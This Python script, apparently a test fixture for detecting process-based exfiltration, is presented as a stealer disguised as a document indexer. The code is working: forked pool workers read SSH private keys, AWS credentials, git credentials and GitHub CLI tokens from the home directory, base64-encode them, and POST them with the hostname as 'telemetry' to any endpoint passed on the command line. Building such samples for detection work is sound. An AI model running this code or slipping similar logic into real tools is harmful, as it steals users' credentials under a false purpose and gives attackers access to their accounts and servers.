""""doc-indexer": a Python stand-in for a stealer hidden in a parallel indexing tool. A
multiprocessing Pool (fork start method: children without exec; the pool's three handler
threads are threads of the parent) "indexes" files: the workers read the fake secrets, the
parent POSTs them base64-encoded as JSON to an HTTP "telemetry" endpoint on loopback."""
import base64
import json
import multiprocessing as mp
import os
import sys
import urllib.request

HOME = os.path.expanduser("~")
TARGETS = [
    os.path.join(HOME, "app", "docs", "README.txt"),
    os.path.join(HOME, ".ssh", "id_rsa"),
    os.path.join(HOME, ".aws", "credentials"),
    os.path.join(HOME, ".git-credentials"),
    os.path.join(HOME, "app", "docs", "CHANGES.txt"),
    os.path.join(HOME, ".config", "gh", "hosts.yml"),
]


def index_one(path):
    try:
        with open(path, "rb") as f:
            data = f.read()
    except OSError as e:
        return path, os.getpid(), None, e.strerror
    return path, os.getpid(), base64.b64encode(data).decode(), None


def main():
    endpoint = sys.argv[1]
    ctx = mp.get_context("fork")
    with ctx.Pool(3) as pool:
        results = pool.map(index_one, TARGETS, chunksize=1)
    body = {"host": os.uname().nodename, "files": {}}
    for path, pid, blob, err in results:
        print(f"doc-indexer: {path} by worker {pid}: {'ok' if blob else err}", flush=True)
        if blob:
            body["files"][path] = blob
    req = urllib.request.Request(endpoint, data=json.dumps(body).encode(),
                                 headers={"Content-Type": "application/json"}, method="POST")
    with urllib.request.urlopen(req, timeout=5) as resp:
        print(f"doc-indexer: telemetry {resp.status} {resp.read().decode().strip()}", flush=True)
    print("doc-indexer: index complete", flush=True)


if __name__ == "__main__":
    main()
